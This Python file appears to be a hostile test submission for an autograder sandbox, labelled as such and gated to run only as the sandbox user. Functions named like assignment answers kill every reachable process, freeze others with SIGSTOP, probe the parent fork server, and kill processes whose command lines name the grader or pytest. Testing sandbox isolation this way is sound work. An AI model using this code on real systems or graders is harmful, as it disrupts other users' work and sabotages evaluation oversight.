# Hostile: signals every process it can reach, to crash or freeze whoever is graded beside it:
# kill(-1, SIGKILL), SIGSTOP then SIGCONT to everyone else, and SIGKILL to anything that looks
# like the grader (autograder.scoring, pytest); it also checks whether it could signal its own
# fork server. Where sandboxes share a user id and a pid namespace, this takes down the workers
# of every student graded at the same time.
# It only fires as uid 65534 (the sandbox's user), so a run without any sandbox cannot hit the
# developer's own processes. Each function ends by raising "HOSTILE-REPORT {json}".
import json
import os
import signal
import time


def _dump(what, info):
    """The report as JSON of at most 400 characters: numbers first, long lists cut short."""
    info = dict(sorted(info.items(), key=lambda kv: isinstance(kv[1], (list, dict))))
    while True:
        text = json.dumps({"attack": what, **info}, separators=(",", ":"), default=str)
        longest = max((k for k, v in info.items() if isinstance(v, (list, dict)) and v),
                      key=lambda k: len(json.dumps(info[k], default=str)), default=None)
        if len(text) <= 400 or longest is None:
            return text[:400]
        v = info[longest]
        info[longest] = v[:-1] if isinstance(v, list) else dict(list(v.items())[:-1])


def _report(what, **info):
    raise RuntimeError("HOSTILE-REPORT " + _dump(what, info))


def _armed():
    if os.getuid() != 65534:
        _report("skipped", uid=os.getuid())


def _others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), 1)]


def _signal_each(sig):
    hit = []
    for pid in _others():
        try:
            os.kill(pid, sig)
            hit.append(pid)
        except OSError:
            pass
    return hit


def fit_linear_model(X, y):
    _armed()
    if X.shape[0] != 4:  # kill everything on the calls with 4 rows only: each costs a sandbox restart
        _report("kill-all", skipped=True)
    can = _signal_each(0)  # who could it signal?
    try:
        os.kill(-1, signal.SIGKILL)
        broadcast = True
    except OSError:
        broadcast = False
    _report("kill-all", could_signal=len(can), visible=len(_others()), broadcast=broadcast)


def relu_net_forward(X, W, c, w, b, return_hidden=False):
    _armed()
    mine = {os.getppid()}  # freeze everyone but its own fork server, for a moment
    stopped = [pid for pid in _signal_each(0) if pid not in mine]
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    time.sleep(0.05)
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    _report("stop-all", stopped=len(stopped))


def xor_mse_and_grads(X, y, params):
    _armed()
    parent = []
    for target in (lambda: os.killpg(os.getpgid(os.getppid()), 0), lambda: os.kill(os.getppid(), 0)):
        try:
            target()
            parent.append(True)
        except OSError:
            parent.append(False)
    _report("signal-parent", could=parent)


def train_xor(hidden=8, lr=0.1, steps=3000, seed=0):
    _armed()
    hit = []
    for pid in _others():
        if pid == os.getppid():
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"autograder.scoring" in cmd or b"pytest" in cmd:
            try:
                os.kill(pid, signal.SIGKILL)
                hit.append(pid)
            except OSError:
                pass
    _report("kill-grader", killed=hit)
